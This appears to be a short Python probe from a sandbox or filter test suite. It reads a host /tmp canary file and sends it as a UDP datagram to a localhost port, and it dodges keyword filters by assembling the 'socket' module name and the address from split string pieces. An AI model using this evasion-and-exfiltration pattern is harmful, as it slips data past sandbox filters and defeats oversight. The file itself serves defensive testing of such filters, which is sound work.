# family: injection
# filterfamily: string-building
# tries: read the host /tmp canary and send it as a UDP datagram to an address split in two literals
# source: none
# exfil: yes
import pydoc
import sys

token, home, hosttmp, tcp, udp, unix, decoy, userfiles = sys.argv[1:9]
net = pydoc.locate("".join(["soc", "ket"]))
data = open(hosttmp, "rb").read()
s = net.SocketType(net.AF_INET, net.SOCK_DGRAM)
s.sendto(data, ("127.0.0." + "1", int(udp)))
s.close()
